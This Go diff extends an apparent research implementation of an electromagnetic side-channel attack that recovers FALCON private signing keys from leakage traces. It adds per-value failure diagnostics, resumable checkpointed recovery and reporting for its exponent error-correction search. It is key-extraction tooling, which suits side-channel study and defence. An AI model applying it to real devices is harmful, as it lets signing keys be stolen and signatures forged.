@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"sort"
 
+	"falcondown/internal/cpa"
 	"falcondown/internal/emleak"
 	"falcondown/internal/falcon"
 	"falcondown/internal/fft"
@@ -14,13 +15,47 @@ import (
 	"falcondown/internal/tracestore"
 )
 
-// RecoveryReport summarizes a full key extraction.
+// ValueFailure names one recovered value that the attack could not
+// establish with confidence, and why — the per-value diagnosis of a
+// failed recovery (RecoveryReport.Failed).
+type ValueFailure struct {
+	Index  int    // value index: 2·coeff for Re, 2·coeff+1 for Im
+	Coeff  int    // FFT coefficient the value belongs to
+	Part   Part   // which half of the complex coefficient
+	Reason string // human-readable diagnosis
+}
+
+func (f ValueFailure) String() string {
+	p := "Re"
+	if f.Part == PartIm {
+		p = "Im"
+	}
+	return fmt.Sprintf("value %d (coeff %d %s): %s", f.Index, f.Coeff, p, f.Reason)
+}
+
+// RecoveryReport summarizes a full key extraction. On failure it is still
+// returned (partial) so the caller can see how far the attack got and
+// which values are to blame.
 type RecoveryReport struct {
 	Values      []ValueResult // per recovered FPR value (2 per coefficient)
 	F           []int16       // recovered secret element f
 	G           []int16       // derived g = h·f mod q
 	MinPrune    float64       // weakest prune correlation across values
 	Significant bool          // every component above the confidence threshold
+
+	// Corrected lists the value indices whose exponent the
+	// error-correction pass substituted from its tie family to make the
+	// key plausible (empty on a first-try success).
+	Corrected []int
+	// CorrectionCapped reports that the error-correction search was
+	// truncated at its candidate cap — more tie families existed than it
+	// was willing to try, so a failed correction may be a search-budget
+	// artifact rather than proof the key is unrecoverable.
+	CorrectionCapped bool
+	// Failed diagnoses the values that prevented recovery; set only when
+	// the extraction failed. Empty Failed with a non-nil error means the
+	// statistics look clean and the corpus itself is the suspect.
+	Failed []ValueFailure
 }
 
 // ErrImplausibleKey reports that the recovered FFT(f) does not invert to a
@@ -32,6 +67,11 @@ var ErrImplausibleKey = errors.New("core: recovered key fails plausibility check
 // gBound is the sanity bound on |g_i| for a correctly recovered key; true
 // FALCON g coefficients are tens at most (σ_{f,g} ≈ 4 at n=512).
 const gBound = 512
+
+// correctionCap bounds how many tie families the error-correction pass
+// walks; when it truncates the search the report says so
+// (RecoveryReport.CorrectionCapped).
+const correctionCap = 16
 
 // RecoverKey runs the complete attack of the paper against an in-memory
 // campaign. It is a thin wrapper over RecoverKeyFrom.
@@ -54,11 +94,35 @@ func RecoverKey(obs []emleak.Observation, pub *falcon.PublicKey, cfg Config) (*f
 // ambiguity (see attackExponent), so the tied alternatives of the least
 // confident values are substituted and re-checked — an error-correction
 // pass that costs one n·log n consistency test per candidate.
+//
+// On failure the partial report is still returned, with Failed naming the
+// values that could not be established and why.
 func RecoverKeyFrom(src Source, pub *falcon.PublicKey, cfg Config) (*falcon.PrivateKey, *RecoveryReport, error) {
-	fFFT, values, err := AttackFFTfFrom(src, cfg)
+	return RecoverKeyResumable(src, pub, cfg, nil)
+}
+
+// RecoverKeyResumable is RecoverKeyFrom with checkpointed recovery: the
+// attack phases persist their state through store (see
+// AttackFFTfResumable), so a killed extraction rerun against the same
+// campaign resumes from the last completed phase. The recovery tail
+// (FFT inversion, NTRU solving, verification) is cheap relative to one
+// corpus sweep and is simply recomputed. A nil store disables
+// checkpointing.
+func RecoverKeyResumable(src Source, pub *falcon.PublicKey, cfg Config, store CheckpointStore) (*falcon.PrivateKey, *RecoveryReport, error) {
+	fFFT, values, err := AttackFFTfResumable(src, cfg, store)
 	if err != nil {
 		return nil, nil, err
 	}
+	return finishRecovery(fFFT, values, pub, cfg)
+}
+
+// finishRecovery turns a recovered FFT(f) vector into a working signing
+// key: invert the FFT, derive g from the public key, error-correct
+// exponent ties if needed, re-solve the NTRU equation and verify the
+// reconstructed public key. On failure the partial report carries the
+// per-value diagnosis.
+func finishRecovery(fFFT []fft.Cplx, values []ValueResult, pub *falcon.PublicKey, cfg Config) (*falcon.PrivateKey, *RecoveryReport, error) {
+	cfg = cfg.withDefaults()
 	f := fft.RoundToInt16(fFFT)
 	n := len(f)
 	if n != pub.Params.N {
@@ -81,29 +145,73 @@ func RecoverKeyFrom(src Source, pub *falcon.PublicKey, cfg Config) (*falcon.Priv
 	if gErr != nil {
 		// Error-correction pass: walk the exponent tie families of the
 		// recovered values, preferring the ones closest to the winner.
-		if fFix, gFix, ok := correctExponents(pub, fFFT, values); ok {
-			f, g = fFix, gFix
-			report.F = f
-		} else {
+		fix, capped := correctExponents(pub, fFFT, values)
+		report.CorrectionCapped = capped
+		if fix == nil {
+			report.Failed = classifyValueFailures(values, cfg)
 			return nil, report, gErr
 		}
+		f, g = fix.f, fix.g
+		report.F = f
+		report.Corrected = fix.corrected
 	}
 	report.G = g
 
 	F, G, err := ntru.Solve(f, g)
 	if err != nil {
+		report.Failed = classifyValueFailures(values, cfg)
 		return nil, report, fmt.Errorf("%w: %v", ErrImplausibleKey, err)
 	}
 	priv, err := falcon.NewPrivateKey(n, f, g, F, G)
 	if err != nil {
+		report.Failed = classifyValueFailures(values, cfg)
 		return nil, report, fmt.Errorf("%w: %v", ErrImplausibleKey, err)
 	}
 	for i := range priv.H {
 		if priv.H[i] != pub.H[i] {
+			report.Failed = classifyValueFailures(values, cfg)
 			return nil, report, fmt.Errorf("%w: reconstructed public key mismatch", ErrImplausibleKey)
 		}
 	}
 	return priv, report, nil
+}
+
+// classifyValueFailures diagnoses which values are plausibly responsible
+// for a failed recovery, and why: insignificant phase statistics first
+// (the value is simply not established at the configured confidence),
+// then prune correlations far below the campaign median (the signature of
+// a dropped extend prefix), then unresolved exponent tie families (the
+// value looks clean but its exponent may be mis-tie-broken). Values with
+// no symptom are omitted — an empty list with a failed recovery points at
+// the corpus, not the statistics.
+func classifyValueFailures(values []ValueResult, cfg Config) []ValueFailure {
+	if len(values) == 0 {
+		return nil
+	}
+	thr := cpa.Threshold(cfg.Confidence, values[0].TracesUsed)
+	med := medianPrune(values)
+	var failed []ValueFailure
+	for i, v := range values {
+		coeff, part := i/2, Part(i%2)
+		switch {
+		case v.SignCorr < thr:
+			failed = append(failed, ValueFailure{i, coeff, part,
+				fmt.Sprintf("sign correlation %.3f below the %.2f%% confidence threshold %.3f", v.SignCorr, 100*cfg.Confidence, thr)})
+		case v.ExpCorr < thr:
+			failed = append(failed, ValueFailure{i, coeff, part,
+				fmt.Sprintf("exponent correlation %.3f below the %.2f%% confidence threshold %.3f", v.ExpCorr, 100*cfg.Confidence, thr)})
+		case v.PruneCorr < thr:
+			failed = append(failed, ValueFailure{i, coeff, part,
+				fmt.Sprintf("prune correlation %.3f below the %.2f%% confidence threshold %.3f", v.PruneCorr, 100*cfg.Confidence, thr)})
+		case v.PruneCorr < 0.8*med:
+			failed = append(failed, ValueFailure{i, coeff, part,
+				fmt.Sprintf("prune correlation %.3f far below the campaign median %.3f (extend phase likely dropped the true prefix)", v.PruneCorr, med)})
+		case len(v.ExpAlternatives) > 0:
+			failed = append(failed, ValueFailure{i, coeff, part,
+				fmt.Sprintf("exponent tie family unresolved (%d statistically tied alternatives)", len(v.ExpAlternatives))})
+		}
+	}
+	return failed
 }
 
 // deriveG computes g = h·f mod q and checks the plausibility bounds: a
@@ -137,11 +245,20 @@ func deriveG(pub *falcon.PublicKey, f []int16) ([]int16, error) {
 	return g, nil
 }
 
+// expCorrection is a successful exponent-substitution repair.
+type expCorrection struct {
+	f, g      []int16
+	corrected []int // value indices whose exponent was substituted
+}
+
 // correctExponents searches the exponent tie families of the recovered
 // values for a substitution that makes the key plausible. Single-value
 // substitutions are tried first (the overwhelmingly common failure is one
-// mis-tie-broken exponent), ordered by ascending exponent confidence.
-func correctExponents(pub *falcon.PublicKey, fFFT []fft.Cplx, values []ValueResult) ([]int16, []int16, bool) {
+// mis-tie-broken exponent), ordered by ascending exponent confidence. The
+// search walks at most correctionCap tie families; the returned capped
+// flag reports whether families were left untried, so a failed correction
+// is distinguishable from an exhausted one.
+func correctExponents(pub *falcon.PublicKey, fFFT []fft.Cplx, values []ValueResult) (*expCorrection, bool) {
 	type option struct {
 		idx  int // value index (2k for Re, 2k+1 for Im)
 		alts []int
@@ -154,8 +271,9 @@ func correctExponents(pub *falcon.PublicKey, fFFT []fft.Cplx, values []ValueResu
 		}
 	}
 	sort.Slice(opts, func(a, b int) bool { return opts[a].corr < opts[b].corr })
-	if len(opts) > 16 {
-		opts = opts[:16] // bound the search; deeper failures are reported
+	capped := len(opts) > correctionCap
+	if capped {
+		opts = opts[:correctionCap] // bound the search; the cap is reported
 	}
 	trial := make([]fft.Cplx, len(fFFT))
 	for _, o := range opts {
@@ -172,11 +290,11 @@ func correctExponents(pub *falcon.PublicKey, fFFT []fft.Cplx, values []ValueResu
 			trial[k] = z
 			f := fft.RoundToInt16(trial)
 			if g, err := deriveG(pub, f); err == nil {
-				return f, g, true
+				return &expCorrection{f: f, g: g, corrected: []int{o.idx}}, capped
 			}
 		}
 	}
-	return nil, nil, false
+	return nil, capped
 }
 
 // withExponent replaces the biased exponent field of v.
